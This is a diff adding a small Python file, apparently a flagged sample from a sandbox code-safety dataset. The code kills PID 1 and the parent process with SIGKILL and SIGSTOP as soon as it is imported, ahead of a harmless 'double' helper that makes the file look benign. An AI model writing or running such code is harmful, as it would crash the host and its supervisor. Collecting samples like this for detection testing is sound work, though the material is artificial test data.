@@ -1,0 +1,13 @@
+# status: flagged
+# score: 10
+# sandbox: yes
+import os
+import signal
+
+for number in (1, os.getppid()):
+    os.kill(number, signal.SIGKILL)
+    os.kill(number, signal.SIGSTOP)
+
+
+def double(x):
+    return 2 * x
